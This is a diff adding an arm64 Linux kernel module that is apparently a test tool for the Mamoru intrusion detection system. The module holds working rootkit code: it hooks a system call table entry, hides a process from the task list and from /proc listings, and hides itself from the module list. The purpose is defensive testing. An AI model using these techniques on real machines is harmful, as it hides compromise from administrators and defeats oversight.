@@ -1,0 +1,344 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * mamoru_attack: a TEST TOOL for Mamoru's intrusion detection. It does, on purpose, the three
+ * things the IDS must notice from outside the guest:
+ *
+ *   sct=ADDR nr=N   replace sys_call_table[N] with a function of this module that counts
+ *                   calls (parameter `calls`) and forwards to the original handler
+ *   hide_pid=P      unlink process P from the kernel's task list (DKOM). /proc, and so `ps`,
+ *                   lists processes from the PID table, not the task list: when the hooked
+ *                   call is getdents64 (the default), the hook also drops P from listings
+ *                   of the /proc root, like a rootkit would. `kill -0 P`, /proc/P still work.
+ *   hide_self=1     unlink this module from the module list: lsmod loses it (and rmmod
+ *                   can no longer find it, so everything stays until the guest reboots)
+ *
+ * The kernel's kallsyms has no data symbols, so the caller passes the runtime address of
+ * sys_call_table. The table is read-only data: the slot is written through a temporary
+ * writable mapping (vmap) of the table's physical page; kernel text is never patched.
+ * Both unlinks run under stop_machine(): the locks that guard these lists are not exported,
+ * and with every CPU in the stopper no lock holder or RCU reader (this kernel's RCU is not
+ * preemptible) is in the middle of either list.
+ *
+ * Unloading (possible only without hide_self) puts everything back.
+ */
+#include <linux/atomic.h>
+#include <linux/delay.h>
+#include <linux/dirent.h>
+#include <linux/file.h>
+#include <linux/fs.h>
+#include <linux/kallsyms.h>
+#include <linux/magic.h>
+#include <linux/mm.h>
+#include <linux/module.h>
+#include <linux/pid.h>
+#include <linux/rculist.h>
+#include <linux/sched.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
+#include <linux/stop_machine.h>
+#include <linux/slab.h>
+#include <linux/uaccess.h>
+#include <linux/vmalloc.h>
+#include <asm/memory.h>
+#include <asm/syscall.h>
+#include <asm/unistd.h>
+
+#define PFX "mamoru_attack: "
+
+static unsigned long sct;
+module_param(sct, ulong, 0444);
+MODULE_PARM_DESC(sct, "runtime address of sys_call_table (0: hook nothing)");
+
+static int nr = __NR_getdents64;	/* 61 */
+module_param(nr, int, 0444);
+MODULE_PARM_DESC(nr, "system call number to hook (default 61, getdents64)");
+
+static int hide_pid;
+module_param(hide_pid, int, 0444);
+MODULE_PARM_DESC(hide_pid, "PID of a process to unlink from the task list (0: none)");
+
+static bool hide_self;
+module_param(hide_self, bool, 0444);
+MODULE_PARM_DESC(hide_self, "unlink this module from the module list (then it cannot unload)");
+
+static atomic_long_t calls = ATOMIC_LONG_INIT(0);
+static atomic_t in_hook = ATOMIC_INIT(0);
+
+static int calls_get(char *buf, const struct kernel_param *kp)
+{
+	return sysfs_emit(buf, "%ld\n", atomic_long_read(&calls));
+}
+
+static const struct kernel_param_ops calls_ops = { .get = calls_get };
+module_param_cb(calls, &calls_ops, NULL, 0444);
+MODULE_PARM_DESC(calls, "how many times the hooked system call ran (read-only)");
+
+static syscall_fn_t *slot;	/* &sys_call_table[nr] once hooked */
+static syscall_fn_t original;
+static struct task_struct *hidden_task;
+static char hidden_name[16];	/* hide_pid in decimal: its directory name in /proc */
+
+static bool is_proc_root(unsigned int fd)
+{
+	struct file *f = fget(fd);
+	bool yes;
+
+	if (!f)
+		return false;
+	yes = f->f_path.dentry->d_sb->s_magic == PROC_SUPER_MAGIC &&
+	      f->f_path.dentry == f->f_path.dentry->d_sb->s_root;
+	fput(f);
+	return yes;
+}
+
+/*
+ * getdents64 returned len bytes of records at regs->regs[1]: drops the hidden process's
+ * entry if there is one. Returns the new length (unchanged when there is nothing to do).
+ */
+static long drop_hidden_entry(const struct pt_regs *regs, long len)
+{
+	void __user *records = (void __user *)regs->regs[1];
+	long pos = 0, out = 0;
+	char *buf;
+
+	buf = kvmalloc(len, GFP_KERNEL);
+	if (!buf)
+		return len;
+	if (copy_from_user(buf, records, len))
+		goto keep;
+	while (pos < len) {
+		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + pos);
+		long reclen;
+
+		if (len - pos < (long)offsetof(struct linux_dirent64, d_name) + 1)
+			goto keep;
+		reclen = d->d_reclen;
+		if (reclen <= (long)offsetof(struct linux_dirent64, d_name) || reclen > len - pos)
+			goto keep;
+		if (strncmp(d->d_name, hidden_name,
+			    reclen - offsetof(struct linux_dirent64, d_name)) != 0) {
+			memmove(buf + out, buf + pos, reclen);
+			out += reclen;
+		}
+		pos += reclen;
+	}
+	if (out == len || copy_to_user(records, buf, out))
+		goto keep;
+	kvfree(buf);
+	return out;
+keep:
+	kvfree(buf);
+	return len;
+}
+
+static long hooked_syscall(const struct pt_regs *regs)
+{
+	long ret;
+
+	atomic_inc(&in_hook);
+	atomic_long_inc(&calls);
+	ret = original(regs);
+	if (nr == __NR_getdents64 && hidden_task && is_proc_root(regs->regs[0])) {
+		/* An empty result means "end of directory": read on if only P was dropped. */
+		while (ret > 0) {
+			long kept = drop_hidden_entry(regs, ret);
+
+			if (kept > 0) {
+				ret = kept;
+				break;
+			}
+			ret = original(regs);
+		}
+	}
+	atomic_dec(&in_hook);
+	return ret;
+}
+
+/* Stores fn in *where, a word of read-only kernel image data, through a writable alias. */
+static int write_ro_word(syscall_fn_t *where, syscall_fn_t fn)
+{
+	unsigned long addr = (unsigned long)where;
+	phys_addr_t pa = addr - kimage_voffset;	/* kernel image: PA = VA - kimage_voffset */
+	struct page *page;
+	void *alias;
+
+	if (!pfn_valid(PHYS_PFN(pa)))
+		return -EFAULT;
+	page = pfn_to_page(PHYS_PFN(pa));
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	if (!alias)
+		return -ENOMEM;
+	WRITE_ONCE(*(syscall_fn_t *)(alias + offset_in_page(addr)), fn);
+	vunmap(alias);
+	return 0;
+}
+
+/* sprint_symbol() of the handler in table slot i, or -EFAULT if the slot cannot be read. */
+static int slot_symbol(unsigned long table, int i, syscall_fn_t *fn, char *name)
+{
+	if (copy_from_kernel_nofault(fn, (syscall_fn_t *)table + i, sizeof(*fn)))
+		return -EFAULT;
+	sprint_symbol(name, (unsigned long)*fn);
+	return 0;
+}
+
+static int hook_syscall(void)
+{
+	char name[KSYM_SYMBOL_LEN];
+	syscall_fn_t fn;
+	int err;
+
+	if (nr < 0 || nr >= __NR_syscalls) {
+		pr_err(PFX "nr=%d is not a system call number\n", nr);
+		return -EINVAL;
+	}
+	/* A wrong address would have us write into random kernel data: check the table first. */
+	if (!IS_ALIGNED(sct, sizeof(fn)) || slot_symbol(sct, __NR_read, &fn, name) ||
+	    strncmp(name, "__arm64_sys_read+0x0/", 21) != 0) {
+		pr_err(PFX "sct=%#lx is not sys_call_table (slot %d is not __arm64_sys_read)\n",
+		       sct, __NR_read);
+		return -EINVAL;
+	}
+	if (slot_symbol(sct, nr, &fn, name) || strncmp(name, "__arm64_sys_", 12) != 0) {
+		pr_err(PFX "slot %d holds %px, not a system call handler (hooked already?)\n",
+		       nr, fn);
+		return -EBUSY;
+	}
+	slot = (syscall_fn_t *)sct + nr;
+	original = fn;
+	err = write_ro_word(slot, hooked_syscall);
+	if (err) {
+		pr_err(PFX "cannot write slot %d at %px: %d\n", nr, slot, err);
+		slot = NULL;
+		return err;
+	}
+	pr_info(PFX "hooked syscall %d at %px: %px -> %px (%s)\n",
+		nr, slot, original, hooked_syscall, name);
+	return 0;
+}
+
+static void unhook_syscall(void)
+{
+	if (!slot)
+		return;
+	if (write_ro_word(slot, original)) {
+		/* Cannot happen once the first write worked; never free code still in the table. */
+		pr_crit(PFX "cannot restore slot %d: the module stays loaded\n", nr);
+		__module_get(THIS_MODULE);
+		return;
+	}
+	/*
+	 * Callers that read the old pointer have since gone to user mode or slept; the ones that
+	 * slept did so in the original handler, counted in in_hook. Wait for those, then for a
+	 * grace period, so that nobody still runs the last instructions of hooked_syscall.
+	 */
+	synchronize_rcu();
+	while (atomic_read(&in_hook))
+		msleep(10);
+	synchronize_rcu();
+	pr_info(PFX "restored syscall %d at %px: %px\n", nr, slot, original);
+	slot = NULL;
+}
+
+static int unlink_task(void *task)
+{
+	list_del_init(&((struct task_struct *)task)->tasks);
+	return 0;
+}
+
+/* Returns 1 if the task went back on the list, 0 if it has exited meanwhile. */
+static int relink_task(void *task)
+{
+	struct task_struct *t = task;
+
+	/* After the task exits, its thread_pid is gone and exit has unlinked it itself. */
+	if (!pid_alive(t) || !list_empty(&t->tasks))
+		return 0;
+	list_add_tail_rcu(&t->tasks, &init_task.tasks);
+	return 1;
+}
+
+static int hide_task(void)
+{
+	struct task_struct *t;
+	int err;
+
+	rcu_read_lock();
+	t = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
+	if (t)
+		get_task_struct(t);
+	rcu_read_unlock();
+	if (!t) {
+		pr_err(PFX "no process %d\n", hide_pid);
+		return -ESRCH;
+	}
+	/* Only thread-group leaders are on the task list. */
+	if (!thread_group_leader(t) || t == current || t->pid == 1) {
+		pr_err(PFX "will not hide %d (not a process leader, init or the loader)\n",
+		       hide_pid);
+		put_task_struct(t);
+		return -EINVAL;
+	}
+	err = stop_machine(unlink_task, t, NULL);
+	if (err) {
+		put_task_struct(t);
+		return err;
+	}
+	snprintf(hidden_name, sizeof(hidden_name), "%d", hide_pid);
+	hidden_task = t;
+	pr_info(PFX "hid pid %d\n", hide_pid);
+	return 0;
+}
+
+static void unhide_task(void)
+{
+	if (!hidden_task)
+		return;
+	if (stop_machine(relink_task, hidden_task, NULL) == 1)
+		pr_info(PFX "unhid pid %d\n", hide_pid);
+	else
+		pr_info(PFX "pid %d has exited: nothing to unhide\n", hide_pid);
+	put_task_struct(hidden_task);
+	hidden_task = NULL;
+}
+
+static int unlink_module(void *mod)
+{
+	/* Like list_del_rcu: a walker standing on this entry still finds the next one. */
+	list_del_rcu(&((struct module *)mod)->list);
+	return 0;
+}
+
+static int __init mamoru_attack_init(void)
+{
+	int err;
+
+	if (sct) {
+		err = hook_syscall();
+		if (err)
+			return err;
+	}
+	if (hide_pid) {
+		err = hide_task();
+		if (err) {
+			unhook_syscall();
+			return err;
+		}
+	}
+	if (hide_self) {	/* last: nothing may fail once the module is off the list */
+		stop_machine(unlink_module, THIS_MODULE, NULL);
+		pr_info(PFX "hid module\n");
+	}
+	return 0;
+}
+
+static void __exit mamoru_attack_exit(void)
+{
+	unhook_syscall();
+	unhide_task();
+}
+
+module_init(mamoru_attack_init);
+module_exit(mamoru_attack_exit);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("Mamoru IDS test tool: hooks a system call, hides a process and itself");
